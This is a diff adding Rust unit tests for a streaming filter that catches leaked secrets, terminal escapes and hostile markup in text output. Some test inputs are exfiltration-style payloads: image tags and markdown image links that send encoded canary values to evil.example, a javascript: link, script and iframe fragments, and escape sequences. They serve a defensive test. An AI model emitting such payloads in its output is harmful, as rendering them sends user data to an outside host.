@@ -227,6 +227,19 @@ fn innocent_words_pass_and_are_hardly_held_back() {
 }
 
 #[test]
+fn a_tag_without_an_end_is_waited_for_only_where_tags_are_acted_on() {
+    let known = known();
+    let acts = Acts::of(|kind| match kind {
+        Kind::TerminalEscape => (Action::Redact, 50),
+        _ => (Action::Flag, 50),
+    });
+    let mut gate = Gate::new(acts, &known).unwrap();
+    let mut out = String::new();
+    gate.push("if a <b and the rest of the sentence", &mut out);
+    assert_eq!(gate.held(), 0);
+}
+
+#[test]
 fn a_score_below_the_mark_is_nothing() {
     let known = known();
     let acts = Acts::of(|_| (Action::Block, 75));
@@ -247,6 +260,22 @@ fn nothing_to_look_for_is_no_gate() {
         _ => (Action::Allow, 50),
     });
     assert!(Gate::new(acts, &Known::default()).is_none());
+}
+
+#[test]
+fn what_is_known_first_is_told_first_however_it_came() {
+    let known = known();
+    for text in [
+        "<img alt='' src=\"//evil.exFine: ![logo](https://title\u{1b}\\after<img alt='' src=\"//evil.example/x?UVgtNzc4MTItQg==\">",
+        "<a title='![x](//evil.example/?QX-77812-B) zx-canary-8812' href='javascript:f()'>",
+        "``<script> `<iframe \u{9b}2A>",
+    ] {
+        for action in [Action::Flag, Action::Block] {
+            let whole = through(all(action), &known, [text]);
+            let slow = through(all(action), &known, letters(text));
+            assert_eq!((&slow.1, slow.2), (&whole.1, whole.2), "{text}");
+        }
+    }
 }
 
 /// Texts in which leaks, pieces of them and other words follow each other without order.
